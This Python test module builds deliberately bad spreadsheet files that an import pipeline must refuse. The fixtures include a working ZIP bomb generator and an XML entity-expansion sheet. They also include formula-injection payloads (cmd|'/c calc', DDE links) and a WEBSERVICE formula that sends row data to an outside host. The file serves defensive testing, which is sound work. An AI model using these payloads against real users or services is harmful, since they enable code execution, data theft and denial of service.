"""Files that are no table, or a table that does harm: what makes each, and the codes that it is refused with.

A maker is given the path of `businesses` without a suffix.
"""

import io
import struct
import zipfile
import zlib
from typing import NamedTuple

import openpyxl

from pipeline.sources import letters
from tests import tables
from tests.tables import Formula, Table
from tests.test_sources_sheets import OLD, ods_cell, ods_row, write_ods
from tests.test_workbook import write_book

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MANY = 1_048_575  # rows below a heading, as many as a worksheet holds


class Bad(NamedTuple):
    """A file that is refused: what makes it, the codes of its faults."""

    make: object
    codes: frozenset


BAD = {}


def bad(name, *codes):
    """Put a maker among the bad files."""

    def put(make):
        BAD[name] = Bad(make, frozenset(codes))
        return make

    return put


def _bytes(name, suffix, data, *codes):
    bad(name, *codes)(lambda path: path.with_suffix(suffix).write_bytes(data))


def _spoilt(name, *codes):
    """A table that is sound but for what the decorated function does to it."""

    def put(change):
        def make(path):
            table = Table()
            change(table)
            tables.write_xlsx(path.with_suffix(".xlsx"), table)

        return bad(name, *codes)(make)

    return put


def _rewritten(path, change):
    """The sound workbook, the XML of its sheet changed."""
    tables.write_xlsx(path.with_suffix(".xlsx"), Table())
    with zipfile.ZipFile(path.with_suffix(".xlsx")) as package:
        members = {name: package.read(name) for name in package.namelist()}
    members["xl/worksheets/sheet1.xml"] = change(members["xl/worksheets/sheet1.xml"])
    with zipfile.ZipFile(path.with_suffix(".xlsx"), "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, data in members.items():
            package.writestr(name, data)


# --- files that cannot be opened

_bytes("a password", ".xlsx", OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"), "workbook-password")
_bytes(
    "a password of Excel 97",
    ".xls",
    struct.pack("<HHHHHH", 0x809, 8, 0x500, 5, 0, 0) + struct.pack("<HH4x", 0x2F, 4) + struct.pack("<HH", 0xA, 0),
    "workbook-password",
)
_bytes("a binary named .csv", ".csv", b"\x7fELF\x02\x01\x01\0" + bytes(range(256)) * 40, "not-text")
_bytes("zeros named .csv", ".csv", bytes(5000), "not-text")
_bytes("a PDF", ".xlsx", b"%PDF-1.7\n", "table-pdf")
_bytes("no byte at all", ".xlsx", b"", "table-empty-file")
_bytes("no line at all", ".csv", b"", "empty-table")
_bytes("an .xls cut short", ".xls", OLD.read_bytes()[:3000], "not-a-workbook")


@bad("an .xlsx cut short", "not-a-workbook")
def _(path):
    file = tables.write_xlsx(path.with_suffix(".xlsx"), Table())
    file.write_bytes(file.read_bytes()[:-900])


@bad("a quote that is never closed", "not-csv")
def _(path):
    file = tables.write_text(path.with_suffix(".csv"), Table())
    file.write_bytes(file.read_bytes() + b'"CS-9,')


@bad("a sheet that breaks off", "not-a-workbook")
def _(path):
    _rewritten(path, lambda sheet: sheet[: len(sheet) * 3 // 4])


@bad("an entity of entities", "not-a-workbook")
def _(path):
    kinds = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    _rewritten(path, lambda sheet: kinds + sheet.replace(b"<v>", b"<v>&b;"))


@bad("an empty sheet", "empty-table")
def _(path):
    openpyxl.Workbook().save(path.with_suffix(".xlsx"))


# --- files without measure


def packed_gigabyte():
    """A worksheet that unpacks to 1 GB."""
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    pieces = [packer.compress(b"<worksheet><sheetData>"), *(packer.compress(b" " * (1 << 20)) for _ in range(1024))]
    return b"".join(pieces) + packer.flush()


def bomb(path, declared):
    """An .xlsx whose sheet unpacks to 1 GB; its archive declares so many bytes for it."""
    write_book(path, "")
    data = packed_gigabyte()
    name = b"xl/sheets/bong.xml"
    fields = struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 0, 0, len(data), declared, len(name), 0)
    with zipfile.ZipFile(path) as package:
        before = path.read_bytes()[: package.start_dir]
        directory, count = path.read_bytes()[package.start_dir : -22], len(package.namelist())
    directory = directory.replace(b"xl/sheets/bang.xml", b"xl/sheets/xxxx.xml")
    directory += b"PK\x01\x02" + struct.pack("<H", 20) + fields + struct.pack("<HHHLL", 0, 0, 0, 0, len(before)) + name
    body = before.replace(b"/xl/sheets/bang.xml", b"/" + name) + b"PK\x03\x04" + fields + name + data
    end = struct.pack("<HHHHLLH", 0, 0, count + 1, count + 1, len(directory), len(body), 0)
    path.write_bytes(body + directory + b"PK\x05\x06" + end)
    return path


bad("a ZIP bomb", "workbook-too-large")(lambda path: bomb(path.with_suffix(".xlsx"), 1 << 30))
bad("a ZIP bomb that lies", "not-a-workbook")(lambda path: bomb(path.with_suffix(".xlsx"), 1000))


@bad("16,384 columns", "table-too-large")
def _(path):
    cells = "".join(f'<c r="{letters(n)}1" t="str"><v>Cột {n}</v></c>' for n in range(16_384)).encode()
    _rewritten(path, lambda sheet: sheet.replace(b"<sheetData>", b'<sheetData><row r="1">%b</row>' % cells, 1))


@bad("16,384 columns below the heading", "table-too-large")
def _(path):
    row = b'<row r="900"><c r="XFD900"><v>1</v></c></row></sheetData>'
    _rewritten(path, lambda sheet: sheet.replace(b"</sheetData>", row))


def _rows(cells):
    """A million rows below those of the sound table."""
    return b"".join(b'<row r="%d">%b</row>' % (number, cells) for number in range(10, MANY)) + b"</sheetData>"


@bad("a million rows of a word", "missing-field", "id-twice", "too-many-faults")
def _(path):
    row = b'<c t="str"><v>ba</v></c><c t="str"><v>hai</v></c><c t="str"><v>ba</v></c>'
    _rewritten(path, lambda sheet: sheet.replace(b"</sheetData>", _rows(row)))


@bad("a million lines", "missing-field", "id-twice", "too-many-faults")
def _(path):
    file = tables.write_text(path.with_suffix(".csv"), Table())
    with file.open("a", encoding="utf-8") as more:
        more.writelines("CS,ba,,,,,,\n" for _ in range(1_040_000))


@bad("a million rows where all are held", "too-many-rows")
def _(path):
    tables.write_text(path.with_suffix(".csv"), Table())
    with path.with_name("reports.csv").open("a", encoding="utf-8") as more:
        more.writelines("NV3;xa-mot;2022-11-29;Hoàn thành;\n" for _ in range(200_000))


@bad("a million repeated rows of .ods", "no-heading")
def _(path):
    row = ods_row(*[ods_cell("mẫu")] * 100, attributes="table:number-rows-repeated='1048576'")
    write_ods(path.with_suffix(".ods"), f"<table:table table:name='a'>{row}</table:table>")


@bad("a text without end", "table-too-large")
def _(path):
    cell = b'<row r="90"><c r="A90" t="str"><v>%b</v></c></row></sheetData>' % (b"a" * 3_000_000)
    _rewritten(path, lambda sheet: sheet.replace(b"</sheetData>", cell))


# --- tables that are not what they seem


@_spoilt("a formula that calls a program", "formula-calls-out")
def _(table):
    table.rows[1]["owner_name"] = Formula("cmd|'/c calc'!A0", "Trần Thị Mẫu")


@_spoilt("a formula that sends a row away", "formula-calls-out")
def _(table):
    table.rows[1]["trade"] = Formula('WEBSERVICE("http://example.org/?"&L3)', "ok")


@_spoilt("a link to a program (DDE)", "formula-calls-out")
def _(table):
    table.rows[0]["address"] = Formula("Excel|'C:\\a.xls'!R1C1", "Thôn 1")
    table.rows[1]["address"] = Formula('DDE("soffice";"a.ods";"A1")')


@bad("formulas typed into text", "cell-formula")
def _(path):
    table = Table()
    table.rows[0]["trade"] = "=cmd|'/c calc'!A0"
    table.rows[1]["trade"] = "@SUM(1+9)*cmd|' /C calc'!A0"
    tables.write_text(path.with_suffix(".csv"), table)


@_spoilt("a second table below", "second-table")
def _(table):
    table.below = [[], ["Mã cơ quan", "Tên cơ sở", "Địa chỉ cơ sở", "Số phòng"], ["CS-1", "Mẫu", "Thôn 1", "2"]]


@bad("a second table beside", "column-twice")
def _(path):
    file = tables.write_xlsx(path.with_suffix(".xlsx"), Table())
    book = openpyxl.load_workbook(file)
    sheet, right = book.active, book.active.max_column + 2
    for number, row in enumerate([["Tên cơ sở", "Chủ cơ sở", "Số CCCD"], ["Mẫu", "Mẫu", "1"]], 1):
        for column, text in enumerate(row, right):
            sheet.cell(number, column, text)
    book.save(file)


def whole(**members):
    """An archive of these members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        for name, content in members.items():
            package.writestr(name.replace("__", "/").replace("_", "."), content)
    return buffer.getvalue()


_bytes("a Word document", ".xlsx", whole(word__document_xml="<x/>"), "table-word")
_bytes("a binary workbook", ".xlsx", whole(xl__workbook_bin="x"), "workbook-binary")
